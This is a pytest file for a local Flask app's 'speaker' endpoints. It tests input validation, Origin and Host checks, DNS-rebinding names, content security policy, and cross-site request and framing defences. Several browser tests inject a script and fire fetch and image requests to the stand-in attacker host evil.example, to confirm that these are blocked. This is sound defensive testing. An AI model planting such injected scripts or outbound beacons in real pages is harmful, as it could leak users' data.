"""What our page may ask of its server, and no other page, under no other name, in no other shape."""

import os
import socket
import subprocess
from collections.abc import Iterator
from contextlib import closing
from http.client import HTTPConnection
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from playwright.sync_api import BrowserContext

from tests.command import COMMAND
from tests.conversations.client import serving
from tests.speaker.visit import Host, Visit, speaker_app
from tests.test_cli import wait_until_it_listens

TURN, END = "/speaker/turn", "/speaker/end"
NOTHING = {"page": None, "text": None, "reason": None, "behind_ms": None}


@pytest.fixture
def client(tmp_path: Path) -> FlaskClient:
    """The speaker's server, without a browser."""
    return speaker_app(Host(), tmp_path).test_client()


@pytest.mark.parametrize("asked", [{}, {"page": "p" * 64, "text": "help"}, NOTHING, {"more": 1}], ids=str)
def test_a_turn_and_an_end(client: FlaskClient, asked: dict[str, Any]) -> None:
    answer = client.post(TURN, json=asked)
    assert answer.status_code == 200
    assert answer.json
    assert answer.json["frames"]
    assert client.post(END, json=asked).status_code == 204


def test_of_a_long_text_the_beginning_is_heard(client: FlaskClient) -> None:
    answer = client.post(TURN, json={"text": "help" + " " * 500 + "x" * 9_000})
    assert answer.json
    assert answer.json["heard"]["intent"] == "AMAZON.HelpIntent"


@pytest.mark.parametrize(
    ("path", "asked"),
    [
        *((path, asked) for path in (TURN, END) for asked in ([], "text", 5, True)),
        *((path, {"page": page}) for path in (TURN, END) for page in (5, ["p"], {"a": 1}, True, "p" * 65)),
        *((TURN, {"text": text}) for text in (5, ["help"], {"a": 1}, True)),
        *((TURN, {"text": "help", "behind_ms": late}) for late in ("1", 1.5, True, [1])),
        *((END, {"reason": reason}) for reason in (5, ["USER_INITIATED"], True)),
    ],
    ids=lambda value: str(value)[:40],
)
def test_what_makes_no_sense_is_refused(client: FlaskClient, path: str, asked: Any) -> None:
    answer = client.post(path, json=asked)
    assert (answer.status_code, answer.json) == (400, {"error": "bad request"})


@pytest.mark.parametrize("body", [b"", b"{", b"null", b"\xff", b"[" * 60_000], ids=lambda body: str(body[:9]))
def test_what_is_no_json_is_refused(client: FlaskClient, body: bytes) -> None:
    assert client.post(TURN, data=body, content_type="application/json").status_code == 400


@pytest.mark.parametrize("path", [TURN, END])
@pytest.mark.parametrize(
    "kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", None]
)
def test_what_a_form_of_another_page_could_send_is_refused(
    client: FlaskClient, path: str, kind: str | None
) -> None:
    answer = client.post(path, data=b'{"text": "stop"}', content_type=kind)
    assert answer.status_code == 415


@pytest.mark.parametrize("path", [TURN, END])
def test_a_huge_body_is_refused(client: FlaskClient, path: str) -> None:
    assert client.post(path, json={"text": "x" * 70_000}).status_code == 413


@pytest.mark.parametrize(
    ("origin", "host", "status"),
    [
        (None, "127.0.0.1:8000", 204),
        ("http://127.0.0.1:8000", "127.0.0.1:8000", 204),
        ("http://localhost", "localhost", 204),
        ("https://localhost", "localhost", 204),
        ("http://[::1]:8000", "[::1]:8000", 204),
        ("http://localhost:8000", "127.0.0.1:8000", 403),
        ("http://127.0.0.1:8001", "127.0.0.1:8000", 403),
        ("http://127.0.0.1:8000.evil.example", "127.0.0.1:8000", 403),
        ("https://evil.example", "127.0.0.1:8000", 403),
        ("https://evil.example/127.0.0.1:8000", "127.0.0.1:8000", 403),
        ("null", "127.0.0.1:8000", 403),
        ("", "127.0.0.1:8000", 403),
        ("127.0.0.1:8000", "127.0.0.1:8000", 403),
    ],
)
def test_only_a_page_of_ours_may_talk(
    client: FlaskClient, origin: str | None, host: str, status: int
) -> None:
    headers = {"Host": host} | ({} if origin is None else {"Origin": origin})
    assert client.post(END, json={"page": "p"}, headers=headers).status_code == status


@pytest.fixture
def neighbour(tmp_path: Path) -> Iterator[int]:
    """The port of `sciatica-coach run`, open to the whole network."""
    with socket.create_server(("127.0.0.1", 0)) as free:
        port: int = free.getsockname()[1]
    command = [COMMAND, "run", "--host", "0.0.0.0", "--port", str(port)]
    settings = {"XDG_DATA_HOME": str(tmp_path), "PATH": os.environ["PATH"]}
    with subprocess.Popen(command, env=settings, stdout=subprocess.PIPE, cwd=tmp_path) as server:
        try:
            wait_until_it_listens(server, port)
            yield port
        finally:
            server.terminate()
            server.communicate(timeout=10)


def test_on_a_network_no_page_reaches_it_under_a_name_of_its_own(neighbour: int) -> None:
    def status(method: str, path: str, host: str) -> int:
        connection = HTTPConnection("127.0.0.1", neighbour, timeout=10)
        with closing(connection):
            body = None if method == "GET" else b"{}"
            connection.request(method, path, body, {"Host": host, "Content-Type": "application/json"})
            return connection.getresponse().status

    own = socket.gethostname()
    for host, served in {
        f"127.0.0.1:{neighbour}": True,
        f"192.168.1.5:{neighbour}": True,
        f"{own}:{neighbour}": True,
        f"evil.example:{neighbour}": False,
        f"{own}.evil.example": False,
    }.items():
        paths = ("/", "/speaker/examples", "/speaker/static/main.js")
        asked = [*(("GET", path) for path in paths), ("POST", END)]
        assert [status(*each, host) < 300 for each in asked] == [served] * len(asked), host
    assert status("GET", "/healthz", "coach.example.com") == 200, "a proxy's name"


def test_in_a_real_browser_nothing_is_run_that_is_not_ours(visit: Visit) -> None:
    """That what is ours runs, the other tests of the page show: a problem in the console fails them."""
    ran = visit.page.evaluate(
        """() => new Promise((resolve) => {
            const refused = new Set();
            document.addEventListener("securitypolicyviolation", (event) => {
                refused.add(event.effectiveDirective);
                if (refused.size === 4) resolve([window.ran ?? false, [...refused].sort()]);
            });
            const script = document.createElement("script");
            script.textContent = "window.ran = true";
            document.body.append(script);
            document.body.insertAdjacentHTML("beforeend", "<p style='color: red'>");
            const image = new Image();
            image.src = "https://evil.example/?told";
            fetch("https://evil.example/?told").catch(() => {});
        })"""
    )
    assert ran == [False, ["connect-src", "img-src", "script-src-elem", "style-src-attr"]]
    assert len(visit.problems) >= 4
    visit.problems.clear()


def test_in_a_real_browser_another_page_cannot_tell_that_ours_is_here(
    context: BrowserContext, host: Host
) -> None:
    elsewhere = Flask("elsewhere")
    elsewhere.add_url_rule("/", view_func=lambda: "<title>elsewhere</title>")
    loads = """(asked) => Promise.all(asked.map(([name, href]) => new Promise((resolve) => {
        const part = document.createElement(name);
        part.onload = () => resolve("loaded");
        part.onerror = () => resolve("refused");
        Object.assign(part, name === "link" ? { rel: "stylesheet", href } : { src: href });
        document.head.append(part);
    })))"""
    asked = [["img", f"{host.url}art.png"], ["link", f"{host.url}speaker/static/speaker.css"]]
    with serving(elsewhere) as url:
        page = context.new_page()
        for here, found in ((host.url, "loaded"), (url, "refused")):
            page.goto(here)
            assert page.evaluate(loads, asked) == [found] * 2
        page.close()


def test_in_a_real_browser_another_page_can_neither_talk_nor_frame_ours(
    context: BrowserContext, host: Host
) -> None:
    elsewhere = Flask("elsewhere")

    @elsewhere.get("/")
    def lure() -> str:
        return f'<iframe src="{host.url}"></iframe>'

    talk = """async ([url, kind]) => {
        const body = new Blob(['{"page": "p", "text": "forget me"}'], { type: kind });
        for (const mode of ["cors", "no-cors"])
            await fetch(url, { method: "POST", mode, body }).catch(() => {});
        navigator.sendBeacon(url, body);
    }"""
    with serving(elsewhere) as url:
        page = context.new_page()
        with page.expect_console_message(lambda line: "frame-ancestors" in line.text):
            page.goto(url)
        for kind in ("application/json", "text/plain", ""):
            page.evaluate(talk, [f"{host.url}speaker/turn", kind])
        page.close()
    statuses = set(host.answered(TURN))
    assert statuses
    assert statuses <= {403, 405}, "405: a browser asks first whether it may send JSON"
